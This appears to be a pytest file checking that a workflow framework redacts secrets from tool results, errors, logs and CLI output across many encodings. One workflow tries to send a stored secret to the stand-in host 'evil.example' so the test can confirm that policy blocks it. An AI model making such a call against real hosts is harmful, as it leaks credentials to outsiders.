"""Secrets with a value that is known, sent through every path; afterwards nothing that is kept or shown holds one."""

import asyncio
import base64
import json
import logging
import os
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from firm import Firm, chat, step, workflow
from firm.agent.tool import tool
from firm.errors import PolicyDenied, RetryableError, StepFailed
from firm.policy.broker import Broker
from firm.policy.redact import Redactor, guard_logs
from firm.policy.secret import Secrets

from .canary import stains, stains_in
from .conftest import Place

HOST = "api.example.com"
CANARIES = {
    name: f"{name}-{base64.b64encode(os.urandom(15)).decode()}-/+" for name in ("payer", "mailer", "model")
}
"""Drawn anew, so that no file of this repository holds one."""

FORMS: dict[str, Callable[[str], Any]] = {
    "itself": lambda value: value,
    "header": lambda value: {"Authorization": f"Bearer {value}"},
    "basic": lambda value: "Basic " + base64.b64encode(f"user:{value}".encode()).decode(),
    "shifted": lambda value: base64.urlsafe_b64encode(f"xy{value}!".encode()).decode(),
    "wrapped": lambda value: base64.encodebytes(b"a" * 50 + value.encode()).decode(),
    "url": lambda value: f"https://{HOST}/?key=" + quote(value, safe=""),
    "hex": lambda value: [value.encode().hex(), value.encode().hex().upper()],
    "json": lambda value: json.dumps({"inner": json.dumps([value])}),
    "bytes": lambda value: b"\x00\xff" + value.encode(),
    "large": lambda value: "x " * 600_000 + value,
}

log = logging.getLogger("firm.tool")


@tool(risk="read", host="host")
async def echo(host: str, key: str, form: str) -> Any:
    """Answers with what it was sent, as careless servers do."""
    log.warning("called with %s", key)
    return FORMS[form](key)


@tool(risk="read", host="host")
async def breaks(host: str, key: str, form: str) -> None:
    """Fails, and tells the whole world why."""
    try:
        raise KeyError(key)
    except KeyError as error:
        log.exception("broke")
        raise RetryableError(f"refused: {FORMS[form](key)!r}") from error


@step
async def asks() -> str:
    return (await chat("Hello")).text


@workflow
async def careless() -> list[str]:
    said = []
    for form in FORMS:
        for name in ("payer", "mailer"):
            said.append(repr(await echo(HOST, f"secret:{name}", form))[-200:])
            said.append(repr(await echo(HOST, f"Bearer {{{{secret:{name}}}}}", form))[-200:])
        try:
            await breaks(HOST, "secret:payer", form)
        except (RetryableError, StepFailed) as error:
            said.append(str(error)[-200:])
    try:
        await echo("evil.example", "secret:payer", "itself")
    except PolicyDenied as error:
        said.append(str(error))
    return said


@workflow
async def fails() -> None:
    await breaks(HOST, "secret:mailer", "basic")


@workflow
async def talks() -> str:
    return await asks()


async def _with_server(work: Callable[[int, list[str]], Awaitable[None]]) -> None:
    """A model's server that refuses every key and repeats it."""
    seen: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
        key = next((line for line in head.splitlines() if line.lower().startswith("authorization")), "")
        seen.append(key)
        body = json.dumps({"error": {"message": f"no such key: {key}", "code": "invalid_api_key"}}).encode()
        writer.write(b"HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\nconnection: close\r\n")
        writer.write(b"x-echo: %s\r\ncontent-length: %d\r\n\r\n" % (key.encode("latin-1"), len(body)) + body)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        await work(server.sockets[0].getsockname()[1], seen)


def _keep(home: Path, hosts: dict[str, str]) -> None:
    (home / ".firm").mkdir(mode=0o700)
    secrets = Secrets(home / ".firm", None)
    for name, host in hosts.items():
        secrets.set(name, CANARIES[name], [host], now_us=1)


def test_no_secret_is_left_behind(
    place: Place, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    _keep(place.folder, {"payer": HOST, "mailer": HOST, "model": "127.0.0.1"})
    told: list[str] = []

    async def work(port: int, seen: list[str]) -> None:
        (place.folder / "firm.toml").write_text(
            f'[models.default]\nurl = "http://127.0.0.1:{port}/v1"\nname = "m"\nkey = "secret:model"\n'
        )
        async with Firm.open(place.folder) as firm:
            told.extend(await (await firm.start(careless, id="careless")).result())
            for flow in (fails, talks):
                with pytest.raises(Exception) as failed:
                    await (await firm.start(flow, id=flow.__name__)).result()
                told.append(repr(failed.value) + str(failed.value.__notes__))
        assert any(CANARIES["model"] in line for line in seen), "the server got no key"

    asyncio.run(asyncio.wait_for(_with_server(work), 60))
    shown = [
        place.firm(*words, code=None) for words in (("show", "fails", "--json"), ("inbox",), ("doctor",))
    ]
    out, err = capfd.readouterr()
    for what, text in {
        "results": repr(told),
        "commands": "".join(shown),
        "logs": caplog.text,
        "stdio": out + err,
    }.items():
        assert stains_in(text, CANARIES) == [], what
    assert stains(place.folder, CANARIES) == []
    assert repr(told).count("[secret:payer]") >= len(FORMS)
    assert "secret 'payer' is not for host 'evil.example'" in told[len(told) - 3]


def test_the_search_itself_finds_every_form(tmp_path: Path) -> None:
    for form, make in FORMS.items():
        made = make(CANARIES["payer"])
        body = (
            made
            if isinstance(made, bytes)
            else (made if isinstance(made, str) else json.dumps(made)).encode()
        )
        (tmp_path / form).write_bytes(body)
        assert [stain for stain in stains(tmp_path, CANARIES) if stain.startswith(f"{form}:")], form


def test_a_logger_of_the_firm_repeats_nothing(caplog: pytest.LogCaptureFixture, tmp_path: Path) -> None:
    _keep(tmp_path, {"payer": HOST})
    broker = Broker(Secrets(tmp_path / ".firm", None), Redactor())
    end = guard_logs(broker.redactor)
    try:
        value = broker.get("payer", HOST)
        logging.getLogger("firm.anything").error("sent %s", value)
    finally:
        end()
    assert "sent [secret:payer]" in caplog.text
    assert stains_in(caplog.text, CANARIES) == []
